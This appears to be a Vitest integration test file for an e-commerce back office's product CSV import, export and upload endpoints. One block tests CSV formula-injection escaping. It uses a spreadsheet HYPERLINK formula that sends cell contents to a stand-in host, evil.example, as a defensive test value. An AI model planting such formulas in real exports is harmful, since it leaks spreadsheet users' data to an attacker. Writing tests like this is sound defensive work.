import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PATIENCE_MS } from '../../../../../e2e/patience'
import { signInAsStaff, unique, WORKER_URL } from '../../../test/staff-session'

await signInAsStaff()
const { request } = await import('../../../engine/calls')
const { sdk } = await import('../../../api/sdk')
const { uploadPresigned } = await import('../../../api/uploads')
const { exportProducts } = await import('./product-export')
const { productBatch } = await import('./product-actions')

const created: string[] = []
afterAll(async () => {
  if (created.length) await productBatch({ delete: created }).catch(() => undefined)
})

const csvFor = (handle: string) =>
  new File(
    [
      [
        'Product Handle,Product Title,Product Status,Variant Title,Variant Sku,Variant Manage Inventory,Variant Price EUR,Variant Option 1 Name,Variant Option 1 Value',
        `${handle},Import ${handle},draft,Gr. 52,${handle.toUpperCase()}-52,true,490,Ringgröße,Gr. 52`,
        `${handle},Import ${handle},draft,Gr. 54,${handle.toUpperCase()}-54,true,490,Ringgröße,Gr. 54`,
      ].join('\n'),
    ],
    `${handle}.csv`,
    { type: 'text/csv' },
  )

/**
 * Imports run in the background after the confirmation: wait until the product is there with its variants (on a busy
 * machine the product can be read a moment before its variants are).
 */
async function importedProduct(handle: string) {
  let product: { id: string; variants: { sku: string }[] } | undefined
  for (const deadline = Date.now() + PATIENCE_MS; Date.now() < deadline; ) {
    ;[product] = (
      await request<{ products: { id: string; variants: { sku: string }[] }[] }>('/admin/products', { query: { handle, fields: 'id,variants.sku' } })
    ).products
    if (product?.variants.length) return product
    await new Promise((resolve) => setTimeout(resolve, 500))
  }
  if (product) return product
  throw new Error(`${handle} was not imported`)
}

describe('product import and export (both upload flows)', () => {
  it('imports through the presigned flow: presigned URL → upload → register → preview → confirm', async () => {
    const handle = unique('it-import')
    const { presigned, key } = await uploadPresigned(csvFor(handle))
    expect(presigned).toMatchObject({ originalname: `${handle}.csv`, extension: 'csv', mime_type: 'text/csv' })
    const registered = await request<{ transaction_id: string; summary: { toCreate: number; toUpdate: number } }>('/admin/products/imports', {
      method: 'POST',
      body: { file_key: key, originalname: presigned.originalname, extension: presigned.extension, size: presigned.size, mime_type: presigned.mime_type },
    })
    expect(registered.summary).toEqual({ toCreate: 1, toUpdate: 0 })
    await request(`/admin/products/imports/${registered.transaction_id}/confirm`, { method: 'POST', body: {} })
    const product = await importedProduct(handle)
    created.push(product.id)
    expect(product.variants.map((variant) => variant.sku).sort()).toEqual([`${handle.toUpperCase()}-52`, `${handle.toUpperCase()}-54`])
  })

  it('imports a multipart upload (POST /admin/products/import) and confirms it', async () => {
    const handle = unique('it-import-mp')
    const { transaction_id, summary } = (await sdk.admin.product.import({ file: csvFor(handle) })) as unknown as {
      transaction_id: string
      summary: { toCreate: number }
    }
    expect(summary.toCreate).toBe(1)
    await request(`/admin/products/import/${transaction_id}/confirm`, { method: 'POST', body: {} })
    created.push((await importedProduct(handle)).id)
  })

  it('exports the filtered products and offers the CSV when it is ready', async () => {
    const file = await exportProducts({ handle: 'verlobungsring-aurelia-solitaer-030' }, new AbortController().signal, { interval: 500, timeout: 60_000 })
    expect(file.url).toMatch(/\.csv$/)
    const csv = await (await fetch(`${WORKER_URL}/medusa${file.url}`)).text()
    expect(csv.split('\n')[0]).toContain('Product Handle')
    expect(csv).toContain('verlobungsring-aurelia-solitaer-030')
  })

  it('gives two exports of the same moment each its own file (two members of staff at once)', async () => {
    const { products } = await request<{ products: { handle: string }[] }>('/admin/products', { query: { limit: 2, fields: 'handle', order: 'created_at' } })
    const handles = products.map((product) => product.handle)
    expect(handles).toHaveLength(2)
    const files = await Promise.all(handles.map((handle) => exportProducts({ handle }, new AbortController().signal, { interval: 500, timeout: 60_000 })))
    expect(files[0]!.url).not.toBe(files[1]!.url)
    for (const [i, file] of files.entries()) {
      const rows = (await (await fetch(`${WORKER_URL}/medusa${file.url}`)).text()).split('\n').slice(1).filter(Boolean)
      expect(
        rows.every((row) => row.includes(handles[i]!)),
        handles[i],
      ).toBe(true)
      expect(
        rows.some((row) => row.includes(handles[1 - i]!)),
        handles[i],
      ).toBe(false)
    }
  })

  it('reads and deletes an uploaded file (GET/DELETE /admin/uploads/{id}) and refuses an empty upload', async () => {
    const pixel = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='), (c) =>
      c.charCodeAt(0),
    )
    const { uploaded } = await uploadPresigned(new File([pixel], 'pixel.png', { type: 'image/png' }))
    const { file } = await request<{ file: { id: string; url: string } }>(`/admin/uploads/${uploaded!.id}`)
    expect(file.id).toBe(uploaded!.id)
    await request(`/admin/uploads/${uploaded!.id}`, { method: 'DELETE' })
    const missing = (await request(`/admin/uploads/presigned-urls`, { method: 'POST', body: {} }).catch((error) => error)) as { status: number }
    expect(missing.status).toBe(400)
  })
})

describe("the back end's product export (POST /admin/products/export): texts that look like formulas", () => {
  // texts a spreadsheet would run (or that Medusa's own export stripped: "-50 %" came back as "50 %")
  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
  const SUBTITLE = '-50 % Rabatt'
  const VARIANT = '@Gr. 52'
  const handle = unique('it-export-formel')
  let productId = ''

  type Product = { title: string; subtitle: string | null; variants: { title: string; prices: { amount: number }[] }[] }

  /** Until an import in the background has written the product back (or the time is up: the test then fails). */
  async function restored() {
    for (const deadline = Date.now() + PATIENCE_MS; Date.now() < deadline; ) {
      const { product } = await request<{ product: Product }>(`/admin/products/${productId}`, {
        query: { fields: 'title,subtitle,variants.title,variants.prices.amount' },
      })
      if (product.title !== 'vorher') return product
      await new Promise((resolve) => setTimeout(resolve, 500))
    }
    throw new Error(`${handle} was not imported`)
  }

  /** The export of this test's product, as the back office offers it for download. */
  async function exported(): Promise<string> {
    const file = await exportProducts({ handle }, new AbortController().signal, { interval: 500, timeout: 60_000 })
    return (await fetch(`${WORKER_URL}/medusa${file.url}`)).text()
  }

  beforeAll(async () => {
    const { product } = await request<{ product: { id: string } }>('/admin/products', {
      method: 'POST',
      body: {
        title: FORMULA,
        subtitle: SUBTITLE,
        handle,
        status: 'draft',
        options: [{ title: 'Ringgröße', values: [VARIANT] }],
        variants: [
          {
            title: VARIANT,
            sku: handle.toUpperCase(),
            manage_inventory: false,
            options: { Ringgröße: VARIANT },
            prices: [{ currency_code: 'eur', amount: -5 }],
          },
        ],
      },
    })
    productId = product.id
    created.push(product.id)
  })

  it('writes them as text, with the leading apostrophe; a negative price stays a number', async () => {
    const { data } = Papa.parse<Record<string, string>>(await exported(), { header: true, skipEmptyLines: true })
    expect(data).toHaveLength(1)
    const [row] = data
    expect(row!['Product Title']).toBe(`'${FORMULA}`)
    expect(row!['Product Subtitle']).toBe(`'${SUBTITLE}`)
    expect(row!['Variant Title']).toBe(`'${VARIANT}`)
    expect(row!['Variant Price EUR']).toBe('-5')
    for (const [column, value] of Object.entries(row!)) {
      if (column !== 'Variant Price EUR') expect(value, column).not.toMatch(/^ *[=+\-@\t\r]/)
    }
  })

  it('imports its own export back unchanged, through both upload flows', async () => {
    const csv = await exported()
    const file = () => new File([csv], `${handle}.csv`, { type: 'text/csv' })

    await request(`/admin/products/${productId}`, { method: 'POST', body: { title: 'vorher', subtitle: 'vorher' } })
    const { presigned, key } = await uploadPresigned(file())
    const registered = await request<{ transaction_id: string; summary: { toCreate: number; toUpdate: number } }>('/admin/products/imports', {
      method: 'POST',
      body: { file_key: key, originalname: presigned.originalname, extension: presigned.extension, size: presigned.size, mime_type: presigned.mime_type },
    })
    expect(registered.summary).toEqual({ toCreate: 0, toUpdate: 1 })
    await request(`/admin/products/imports/${registered.transaction_id}/confirm`, { method: 'POST', body: {} })
    const viaPresigned = await restored()
    expect(viaPresigned).toMatchObject({ title: FORMULA, subtitle: SUBTITLE })
    expect(viaPresigned.variants.map((variant) => [variant.title, variant.prices.map((price) => price.amount)])).toEqual([[VARIANT, [-5]]])

    await request(`/admin/products/${productId}`, { method: 'POST', body: { title: 'vorher', subtitle: 'vorher' } })
    const { transaction_id } = (await sdk.admin.product.import({ file: file() })) as unknown as { transaction_id: string }
    await request(`/admin/products/import/${transaction_id}/confirm`, { method: 'POST', body: {} })
    expect(await restored()).toMatchObject({ title: FORMULA, subtitle: SUBTITLE })
  })
})
